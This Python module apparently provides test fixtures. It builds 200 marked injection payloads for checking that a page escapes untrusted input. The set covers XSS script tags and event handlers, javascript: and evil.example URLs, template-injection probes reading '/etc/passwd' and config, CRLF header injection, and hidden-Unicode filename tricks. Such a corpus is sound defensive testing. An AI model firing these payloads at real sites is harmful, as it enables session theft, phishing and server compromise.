# SPDX-License-Identifier: EUPL-1.2
"""Words with which strangers try to become part of a page: two hundred, each between two marks by which it is found."""

from __future__ import annotations

import re
from collections.abc import Callable

_SCRIPTS = (
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT >",
    "<script/src=//evil.example/x></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0c>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "</script><script>alert(1)",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
)
_HANDLERS = (
    "<img src=x onerror=alert(1)>", "<img src=x:x onerror\n=alert(1)>", "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x", "<input autofocus onfocus=alert(1)>", "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//", "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mtext></form><form onsubmit=x>",
    "<video><source onerror=alert(1)>", "<isindex action=javascript:alert(1)>", '" onmouseover=alert(1) x="',
    "' autofocus onfocus=alert(1) x='", "` onclick=alert(1) `",
)  # fmt: skip
_ADDRESSES = (
    "<a href=javascript:alert(1)>press</a>", "<a href='java&#10;script:alert(1)'>press</a>",
    "<iframe src=data:text/html;base64,PHNjcmlwdD4=></iframe>", "<object data=//evil.example></object>",
    "<embed src=//evil.example>", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<form action=//evil.example><button>Log in</form>",
    "[press](javascript:alert(1))", "![x](//evil.example/x.png)", "https://evil.example/?q=<b>",
)  # fmt: skip
_TEMPLATES = (
    "{{ 7*7 }}", "{% include '/etc/passwd' %}", "{{ config }}", "{# x #}", "${7*7}", "<%= 7*7 %>", "#{7*7}",
    "{{ ''.__class__.__mro__ }}", "{% endblock %}{% block content %}", "%(name)s {0} {name}",
)  # fmt: skip
_STYLES = (
    "<style>*{display:none}</style>",
    "<p style='position:fixed;inset:0'>x",
    "</style><b>",
    "@import '//evil.example';",
)
_ENDS = (
    "</textarea></form>", "</title></head>", "--></p><!--", "]]></div>", "</details></section></main>",
    "</option></select>",
    "</dd></dl></li></ul>",
)  # fmt: skip
_ENTITIES = (
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "&#x3c;img src=x&#x3e;", "&amp;lt;b&amp;gt;",
    "&quot;&apos;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\u02c2script\u02c3", "\uff1cscript\uff1e",
)  # fmt: skip
_UNSEEN = (
    "gpj.\u202egnp.exe", "\u2066<b>\u2069", "a\u200bb\u200cc\ufeff", "<scr\u00adipt>", "\U000e0041\U000e0042",
    "\u2028<b>\u2029",
)  # fmt: skip
_HEADERS = (
    "\r\nSet-Cookie: x=1", "\r\n\r\n<script>alert(1)</script>", "\nLocation: //evil.example",
    "x\r\nBcc: a@evil.example",
    "%0d%0aSet-Cookie:x=1", "\u560a\u560dSet-Cookie:x=1", '"; filename="x.exe', "=?utf-8?q?=3Cscript=3E?=",
)  # fmt: skip
_PLAIN = (
    *_SCRIPTS, *_HANDLERS, *_ADDRESSES, *_TEMPLATES, *_STYLES, *_ENDS, *_ENTITIES, *_UNSEEN, *_HEADERS,
)  # fmt: skip
_WAYS: tuple[Callable[[str], str], ...] = (str, '">{}'.format, "'>{}<!--".format)
PAYLOADS = tuple(dict.fromkeys(way(one) for way in _WAYS for one in _PLAIN))[:200]
_NUMBER = re.compile("\N{MATHEMATICAL LEFT ANGLE BRACKET}U\\+[0-9A-F]+\N{MATHEMATICAL RIGHT ANGLE BRACKET}")


def marked(number: int, field: str = "") -> str:
    """Returns a payload between marks that say which it is, and of which field."""
    return f"q{number}{field}z {PAYLOADS[number]} z{number}{field}q"


def signs(text: str) -> str:
    """Returns the signs of ASCII in a text that everybody sees, without those that stand for a character by number."""
    return re.sub("[^!-~]", "", _NUMBER.sub("", text))
